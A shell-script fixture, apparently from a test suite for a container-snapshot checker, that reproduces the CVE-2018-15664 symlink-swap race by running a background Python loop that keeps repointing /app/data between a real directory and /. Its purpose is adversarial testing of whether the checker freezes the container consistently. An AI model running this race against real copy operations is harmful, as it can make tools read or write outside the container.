#!/bin/sh
# f30-symlink-swap-race - threats.md row F30 (`docker cp` symlink-exchange race,
# CVE-2018-15664: a path component is swapped for a symlink to / between the copier's check
# and its use).
#
# Does NOT solve the task. Leaves a process that, every ~0.1 ms, atomically renames one of two
# prepared symlinks over /app/data: one points at the real directory /app/.data-real, the other
# at /. A copier that resolves /app/data/... while the loop runs can be sent to the container's
# root (or, with the old engine bug, the host's). fcv freezes the container before the
# snapshot (here --snapshot commit: the archive is read from the frozen container) and the
# snapshot scan then sees one consistent state.
#
# Both verdicts: no answer -> fail; the race process is reported as still running at freeze.
#
# Assumes: root, sh -c, cwd /app, python3 and setsid (the Debian image).
set -eu
mkdir -p /app/.data-real
echo "real data" > /app/.data-real/file.txt
cat > /tmp/.swap.py <<'PY'
import os, time
end = time.monotonic() + 120
n = 0
while time.monotonic() < end:
    for target in ("/app/.data-real", "/"):
        tmp = "/app/.swap-%d" % n
        n += 1
        os.symlink(target, tmp)
        os.replace(tmp, "/app/data")
PY
setsid python3 /tmp/.swap.py </dev/null >/dev/null 2>&1 &
sleep 1
ls -l /app
